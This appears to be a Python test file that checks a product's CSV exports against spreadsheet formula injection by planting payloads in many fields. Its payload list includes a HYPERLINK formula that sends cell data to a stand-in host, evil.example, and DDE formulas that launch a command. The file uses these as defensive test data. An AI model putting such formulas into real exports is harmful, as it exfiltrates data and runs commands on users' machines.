"""Every CSV the product writes is safe to open in a spreadsheet (OWASP CSV injection).

Each test plants formula payloads where an attacker controls the text (a Roo command, a
file path, an object key, a reviewer's justification, a task id, a resource name), runs
the real producer, reads the bytes back with csv.reader and checks every cell: none may
start with = + - @ tab or CR unless it is a plain number, and each payload is still
there, whole, behind the neutralising quote.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest

from tasks.common.csvsafe import FORMULA_START
from tasks.common.models import Finding

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_neutral(data: bytes, planted: list[str]) -> None:
    rows = cells(data)
    flat = [c for row in rows[1:] for c in row]
    bad = [c for c in flat if c.startswith(FORMULA_START) and not NUMBER.match(c)]
    assert not bad, f"cells a spreadsheet would run: {bad}"
    width = len(rows[0])
    assert all(len(r) == width for r in rows), "a CR split a row"
    for p in planted:
        assert "'" + p in flat, f"payload {p!r} lost or not neutralised"


def test_ledger_csv_commands_and_paths():
    from tasks.audit.ledger import build_ledger, ledger_csv
    from tasks.audit.model import BUILTIN_EDIT_MODES
    from tests.audit.conftest import table, ui
    from tests.command_redactors import hmac_redactor

    rows = [
        ui(i + 1, i + 1, user="u", task_id="t", kind="command", command=f"{p} arg")
        for i, p in enumerate(PAYLOADS)
    ]
    rows += [
        ui(10 + i, 10 + i, user="u", task_id="t", kind="tool", tool="newFileCreated", path=p)
        for i, p in enumerate(PAYLOADS)
    ]
    ledger = build_ledger(
        table(rows),
        edit_modes=frozenset(BUILTIN_EDIT_MODES),
        redact_command=hmac_redactor(b"k" * 32),
    )
    data = ledger_csv(ledger.entries)
    assert_neutral(data, PAYLOADS)  # each path verbatim
    assert sum(c.startswith("'=HYPERLINK") for r in cells(data) for c in r) >= 2  # command too


def test_decisions_csv_justification_and_reviewer():
    from tasks.access.campaign import CampaignItem
    from tasks.access.decide import _rows_csv
    from tasks.access.decisions import apply_decisions, parse_decisions

    items = [
        CampaignItem(item_id=f"i{n}", campaign_id="c", grant_id=f"g{n}", kind="iam_admin",
                     resource=p, subject=f"s{n}@x.io", aws_user="", team="t", reviewer="boss@x.io",
                     reviewer_source="manager", due="2026-12-31", detail="{}")
        for n, p in enumerate(PAYLOADS)
    ]  # fmt: skip
    sheet = io.StringIO()
    w = csv.writer(sheet)
    w.writerow(["item_id", "reviewer", "decision", "justification"])
    for n, p in enumerate(PAYLOADS):
        w.writerow([f"i{n}", "boss@x.io", "certify", f"x{p}" if p[0] in "\t\r" else p])
    w.writerow(["i-unknown", PAYLOADS[0], "revoke", "because"])  # rejected row, echoed back
    outcome = apply_decisions(items, parse_decisions(sheet.getvalue().encode(), "d.csv"), datetime.now(UTC))  # fmt: skip
    rows = [{**r, "status": "accepted"} for r in outcome.accepted] + [
        {**r, "status": "rejected"} for r in outcome.rejected
    ]
    cols = ["item_id", "reviewer", "decision", "justification", "kind", "resource", "subject",
            "decided_at", "status", "reason", "line"]  # fmt: skip
    # parse_decisions strips, so the tab/CR payloads survive in resource (from the campaign)
    assert_neutral(_rows_csv(rows, cols), PAYLOADS)


def test_campaign_csv_resource_and_subject():
    from tasks.access.campaign import CampaignItem, campaign_csv_bytes

    items = [
        CampaignItem(item_id=f"i{n}", campaign_id="c", grant_id="g", kind="roo_auto_execute",
                     resource=p, subject=p, aws_user="", team="t", reviewer="r@x.io",
                     reviewer_source="manager", due="2026-12-31", detail="{}")
        for n, p in enumerate(PAYLOADS)
    ]  # fmt: skip
    assert_neutral(campaign_csv_bytes(items), PAYLOADS)


def test_access_findings_csv():
    from tasks.access.csvout import findings_csv

    findings = [Finding.make("access_campaign", "high", "fail", p, p, grant_id=p) for p in PAYLOADS]
    assert_neutral(findings_csv(findings, datetime.now(UTC)), PAYLOADS)


def test_report_findings_csv():
    from tasks.reports.report import findings_csv_bytes

    findings = [Finding.make("roo.cmd", "medium", "fail", p, p) for p in PAYLOADS]
    assert_neutral(findings_csv_bytes(findings), PAYLOADS)


def test_retention_manifest_csv():
    from tasks.retention.job import MANIFEST_FIELDS, manifest_files

    rows = [
        {f: "" for f in MANIFEST_FIELDS} | {"key": p, "bucket": "b", "size": -1, "rule": p}
        for p in PAYLOADS
    ]
    data = manifest_files(rows, [])["manifest.csv"]
    assert_neutral(data, PAYLOADS)
    assert all(r[MANIFEST_FIELDS.index("size")] == "-1" for r in cells(data)[1:])  # a number


def test_quarantine_csv_source_and_detail():
    from tasks.quality.bundle import QUARANTINE_COLUMNS, quarantine_csv
    from tasks.quality.job import TABLES

    rows = [
        {"table": "events", "stage": "parse", "source": p, "position": 3, "reason": "bad_json",
         "reasons": [p], "detail": p, "day": "2026-12-01"}
        for p in PAYLOADS
    ]  # fmt: skip
    a = SimpleNamespace(
        parse_quarantine=rows, splits={n: SimpleNamespace(quarantine=[]) for n in TABLES}
    )
    data = quarantine_csv(a)
    assert cells(data)[0] == QUARANTINE_COLUMNS
    assert_neutral(data, PAYLOADS)


def test_task_costs_csv():
    import pyarrow as pa

    from tasks.budget.report import task_costs_csv
    from tasks.budget.task_table import TASK_SCHEMA

    day = date(2026, 12, 1)
    rows = [dict(task_id=p, user=p, team="t", mode=p, model="m", provider="p",
                 status="completed", first_day=day, effective=0.5, reported=1.0,
                 recomputed=1.0, compared_requests=1, requests=1, subtasks=0,
                 model_source="inferred")
            for p in PAYLOADS]  # fmt: skip
    tasks = pa.Table.from_pylist(rows, schema=TASK_SCHEMA)  # the analysis' task table
    data = bytes(task_costs_csv(SimpleNamespace(tasks=tasks), [day]))
    assert_neutral(data, PAYLOADS)
    assert {r[8] for r in cells(data)[1:]} == {"0.500000"}  # numbers untouched


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_round_trip_is_visible_text(payload):
    """The quote is the whole change: stripping it gives the planted text back."""
    from tasks.reports.report import findings_csv_bytes

    data = findings_csv_bytes([Finding.make("c", "low", "pass", payload, "m")])
    resource = [c for c in cells(data)[1] if c.endswith(payload)]
    assert resource == ["'" + payload]
